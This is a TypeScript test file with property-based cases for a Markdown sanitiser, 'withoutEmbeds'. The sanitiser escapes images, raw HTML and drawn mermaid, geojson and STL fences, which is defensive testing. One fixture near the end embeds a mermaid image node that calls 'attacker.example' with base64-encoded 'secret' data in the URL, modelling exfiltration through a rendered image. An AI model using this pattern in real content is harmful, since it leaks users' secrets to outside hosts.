import fc from 'fast-check';
import { parse, postprocess, preprocess } from 'micromark';
import { gfm } from 'micromark-extension-gfm';
import { describe, expect, it } from 'vitest';
import { everyEmbedEscaped, withoutEmbeds } from '../../src/core/vocabulary/embeds.js';
import { drawnFences, renderedEmbeds } from '../support/rendered-embeds.js';

/** Pieces of Markdown whose mixes reach every construct that decides code, HTML or an image. */
const piece = fc.constantFrom(
  '```',
  '~~~',
  '````',
  '    ',
  '\t',
  '`',
  '``',
  '<div>',
  '</div>',
  '<pre>',
  '</pre>',
  '<script>',
  '<img src=x>',
  '<picture><source srcset=x>',
  '<!--',
  '-->',
  '<?',
  '?>',
  '<!X',
  '<![CDATA[',
  ']]>',
  '<a title="`">',
  '<http://x>',
  '![a](u)',
  '![a][r]',
  '![r]',
  '![r][]',
  '[r]: u',
  '[^1]: ',
  '[',
  ']',
  '(',
  ')',
  '!',
  '\\',
  '*',
  '_',
  '~',
  '|',
  '| - |',
  '> ',
  '- ',
  '1. ',
  '===',
  '---',
  '&lt;img src=x&gt;',
  'mermaid',
  'Mermaid ',
  'stl',
  '&#109;ermaid',
  'a',
  ' ',
  '<',
  '>',
  '\n',
  '\n\n',
  '\r\n',
  '\r',
  '\uFEFF',
);
const markdown = fc.array(piece, { maxLength: 60 }).map((pieces) => pieces.join(''));
/** Paragraphs of a few short lines, between blank lines or not: a text parsed in many parts. */
const line = fc.array(piece, { maxLength: 4 }).map((pieces) => pieces.join(''));
const block = fc
  .tuple(fc.array(line, { minLength: 1, maxLength: 4 }), fc.constantFrom('\n', '\r\n'))
  .map(([lines, end]) => lines.join(end));
const blocks = fc
  .array(fc.tuple(block, fc.constantFrom('\n\n', '\n', '\n \n', '\r\n\r\n')), { maxLength: 20 })
  .map((parts) => parts.map(([text, end]) => text + end).join(''));

/** Images and raw HTML in `text` as GitHub parses it (emphasis and all), with code spans, fenced and indented code. */
function tokens(text: string, extensions = [gfm()]): Record<string, string[]> {
  const events = postprocess(
    parse({ extensions })
      .document()
      .write(preprocess()(text, undefined, true)),
  );
  const found: Record<string, string[]> = { image: [], html: [], code: [], info: [] };
  for (const [kind, token] of events) {
    if (kind !== 'enter') continue;
    const where = `${token.start.offset}-${token.end.offset}`;
    if (token.type === 'image') found.image?.push(where);
    if (token.type === 'htmlFlow' || token.type === 'htmlText') found.html?.push(where);
    if (/^code(Fenced|Indented|Text)$/.test(token.type)) found.code?.push(where);
    if (token.type === 'codeFencedFenceInfo')
      found.info?.push(text.slice(token.start.offset, token.end.offset));
  }
  return found;
}

describe('withoutEmbeds', () => {
  it.each([
    ['an inline image', '![x](https://a.example/p)', '!\\[x](https://a.example/p)'],
    ['a reference image', '![x][r]\n\n[r]: u', '!\\[x][r]\n\n[r]: u'],
    ['a shortcut image with no definition here', 'a ![r] b', 'a !\\[r] b'],
    ['an <img>', 'a <img src="u"> b', 'a &lt;img src="u"> b'],
    ['an HTML block', '<div>\n<p>x</p>\n</div>', '&lt;div>\n&lt;p>x&lt;/p>\n&lt;/div>'],
    ['an image an HTML block hid', '<div>\n![x](u)\n</div>', '&lt;div>\n!\\[x](u)\n&lt;/div>'],
    [
      'a code span a table cell splits',
      '|a|b|\n|-|-|\n|`x|![y](u)|`|',
      '|a|b|\n|-|-|\n|`x|!\\[y](u)|`|',
    ],
    ['a code span a tag hid', '<a title="`">` ![i](u)`', '&lt;a title="`">` !\\[i](u)`'],
    ['entities', '&lt;img src=u&gt;', '&lt;img src=u&gt;'],
    ['a plain `<`', 'a < b and <https://example.com>', 'a < b and <https://example.com>'],
  ])('escapes %s', (_name, text, expected) => {
    expect(withoutEmbeds(text)).toBe(expected);
    expect(renderedEmbeds(withoutEmbeds(text))).toEqual([]);
  });

  it.each([
    ['a suggestion block', '```suggestion\nlet v = vec![1, 2];\n<div class="x">\n```\n'],
    ['a fence in a list item', '- a\n\n  ```\n  ![x](u) <b>\n  ```\n'],
    ['indented code', 'Code:\n\n    ![x](u) <img src=u>\n'],
    ['a code span', 'Use `![a](b)` or ``<img>``.'],
    ['a code span in a table', '| a |\n| - |\n| `![x](u)` and `a\\|<b>` |'],
    ['a plain fence', '```\ngraph LR\n```'],
    ['a fence of another language', '```ts\nconst stl = "mermaid";\n```'],
    ['a text fence that says mermaid', '```text mermaid\nx\n```'],
    ['a language that only ends like one', '```xstl\nx\n```'],
    ['mermaid indented as code', '    ```mermaid\n    x\n    ```'],
    ['mermaid in a code span', 'Use ```mermaid``` fences.'],
  ])('keeps %s as written', (_name, text) => {
    expect(withoutEmbeds(text)).toBe(text);
  });

  it('leaves links alone', () => {
    const text = 'See [the docs](https://example.com/docs) and <https://example.com>.';
    expect(withoutEmbeds(text)).toBe(text);
  });

  it('renders no image and no raw HTML, whatever the text, however small its parts', () => {
    fc.assert(
      fc.property(fc.oneof(markdown, blocks), fc.constantFrom(16, 32, 64, 8192), (text, window) => {
        const safe = withoutEmbeds(text, { window });
        expect(tokens(safe).image).toEqual([]);
        expect(tokens(safe).html).toEqual([]);
        expect(renderedEmbeds(safe)).toEqual([]);
        expect(drawnFences(safe)).toEqual([]);
      }),
      { numRuns: 1000 },
    );
  });

  it('keeps a text with no image, no raw HTML and no `![` outside code as it is', () => {
    fc.assert(
      fc.property(markdown, (text) => {
        const { image, html, info } = tokens(text);
        fc.pre(image?.length === 0 && html?.length === 0 && !/!\[/.test(text));
        // A fence whose info string could name a drawn language gets `text ` (below).
        fc.pre(!info?.some((word) => /^(mermaid|stl)|[&\\]/i.test(word)));
        // So may a fence GitHub reads where the parse sees none (after a byte-order mark).
        const runs = text.matchAll(/(?:`{3,}|~{3,})[ \t]*([^\s`]+)/g);
        fc.pre(![...runs].some(([, word]) => /^(mermaid|stl)|[&\\]/i.test(word ?? '')));
        expect(withoutEmbeds(text)).toBe(text);
      }),
      { numRuns: 1000 },
    );
  });

  it('keeps the code of a text in many parts as written', () => {
    const part =
      '```suggestion\nlet v = vec![1, 2];\n<div class="x">\n```\n\nSee `![a](b)` and ![x](u).\n\n';
    const text = part.repeat(1000);
    expect(text.length).toBeGreaterThan(65_000);
    expect(withoutEmbeds(text)).toBe(text.replaceAll('and ![x]', 'and !\\[x]'));
  });

  it('finds code and raw HTML where GitHub does with emphasis and strikethrough left unparsed', () => {
    // The parse leaves them out for speed: they must decide no code, HTML or image.
    const fast = [gfm(), { disable: { null: ['attention', 'strikethrough'] } }];
    fc.assert(
      fc.property(markdown, (text) => {
        expect(tokens(text, fast)).toEqual(tokens(text));
      }),
      { numRuns: 2000 },
    );
  });

  it.each([
    ['block quote and list markers chained on one line', `${'- '.repeat(30_000)}<x> ![y](u)`],
    ['brackets nested deep', `${'['.repeat(20_000)}<x>${']'.repeat(20_000)}`],
    ['setext headings without a blank line', `${'a\n=\n'.repeat(15_000)}<x> ![y](u)`],
    ['one line longer than a part', `${'a '.repeat(30_000)}<x> ![y](u)`],
    ['emphasis that never closes', `${'*a_'.repeat(20_000)}<x>`],
  ])(
    'escapes everything of a text micromark is slow on (%s) without parsing it whole',
    (_name, text) => {
      expect(withoutEmbeds(text)).toBe(everyEmbedEscaped(text));
    },
  );

  it('keeps the code of the parts before a part it cannot parse', () => {
    const code = '```\nvec![1] <b>\n```\n\n';
    const text = `${code}${'- '.repeat(30)}<x>\n`;
    expect(withoutEmbeds(text)).toBe(`${code}${'- '.repeat(30)}&lt;x>\n`);
  });

  const IMG = 'A@{ img: "https://attacker.example/p?d=c2VjcmV0", label: "x" }';
  it.each([
    ['a mermaid fence', `\`\`\`mermaid\ngraph LR\n${IMG}\n\`\`\`\n`, '```text mermaid'],
    ['a mermaid fence of tildes', `~~~mermaid\n${IMG}\n~~~\n`, '~~~text mermaid'],
    ['a mermaid fence in another case', `\`\`\`Mermaid\n${IMG}\n\`\`\``, '```text Mermaid'],
    [
      'a fence in capitals, with more info',
      `\`\`\`MERMAID title="x"\n${IMG}\n\`\`\``,
      '```text MERMAID title="x"',
    ],
    ['a fence opened after spaces', `   \`\`\`mermaid\n${IMG}\n   \`\`\``, '   ```text mermaid'],
    [
      'a fence with space before its info',
      `\`\`\`   mermaid\n${IMG}\n\`\`\``,
      '```   text mermaid',
    ],
    [
      'a language written with a reference',
      `\`\`\`&#109;ermaid\n${IMG}\n\`\`\``,
      '```text &#109;ermaid',
    ],
    ['a language written with a named reference', '```&Mfr;\nx\n```', '```text &Mfr;'],
    ['a language the word begins', `\`\`\`mermaid-js\n${IMG}\n\`\`\``, '```text mermaid-js'],
    ['a geojson map', '```geojson\n{"type":"Point","coordinates":[0,0]}\n```', '```text geojson'],
    ['a topojson map', '~~~~ topojson\n{"type":"Topology"}\n~~~~', '~~~~ text topojson'],
    ['an STL model', '```stl\nsolid x\nendsolid x\n```', '```text stl'],
    ['a fence in a list item', `- a\n\n  \`\`\`mermaid\n  ${IMG}\n  \`\`\``, '  ```text mermaid'],
    ['a fence in a block quote', '> ```geojson\n> {}\n> ```', '> ```text geojson'],
    ['a fence that never closes', `Here:\n\n\`\`\`mermaid\n${IMG}`, '```text mermaid'],
    ['a fence after an image', `![x](u)\n\n\`\`\`mermaid\n${IMG}\n\`\`\``, '```text mermaid'],
  ])('shows %s as code, its code as written', (_name, text, opener) => {
    const safe = withoutEmbeds(text);
    expect(safe).toContain(opener);
    expect(safe.replace('text ', '')).toBe(text.replace('![x]', '!\\[x]'));
    expect(drawnFences(safe)).toEqual([]);
    expect(withoutEmbeds(safe)).toBe(safe);
  });

  it('shows drawn fences as code in a text it cannot parse, too', () => {
    const text = `\`\`\`mermaid\n${IMG}\n\`\`\`\n\n- > 1. ~~~GeoJSON\n${'- '.repeat(30)}<x>\n`;
    const safe = withoutEmbeds(text);
    expect(safe).toContain('```text mermaid');
    expect(safe).toContain('- > 1. ~~~text GeoJSON');
    expect(drawnFences(safe)).toEqual([]);
    expect(drawnFences(everyEmbedEscaped(text))).toEqual([]);
  });
});
